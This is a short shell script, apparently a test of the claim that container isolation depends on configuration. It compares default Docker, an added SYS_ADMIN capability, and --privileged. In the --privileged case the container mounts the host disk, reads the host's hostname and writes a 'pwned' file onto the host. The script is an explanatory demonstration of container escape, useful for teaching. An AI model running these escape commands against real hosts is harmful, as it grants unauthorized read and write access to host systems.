# Escape precondition (no kernel bug needed): --privileged hands the container
# every host device and CAP_SYS_ADMIN without seccomp/AppArmor, so it can mount
# the host's root disk (/dev/vda1) and read or write the host's files.
# The seed's claim tested here: containers share one kernel, and the kernel-level
# isolation boundary is only as strong as its configuration — a flag bypasses it.
# Blocked by default: no /dev/vda1 in the container, and mount(2) is refused.
docker pull alpine >/dev/null
echo "default:"
docker run --rm alpine sh -c 'mkdir -p /mnt; mount /dev/vda1 /mnt && cat /mnt/etc/hostname'
echo "--cap-add SYS_ADMIN --security-opt apparmor=unconfined (no host devices):"
docker run --rm --cap-add SYS_ADMIN --security-opt apparmor=unconfined alpine sh -c 'mkdir -p /mnt; mount /dev/vda1 /mnt && cat /mnt/etc/hostname'
echo "--privileged:"
docker run --rm --privileged alpine sh -c 'mkdir -p /mnt; mount /dev/vda1 /mnt && cat /mnt/etc/hostname && echo pwned > /mnt/tmp/from-container'
echo "on the host:"
cat /tmp/from-container
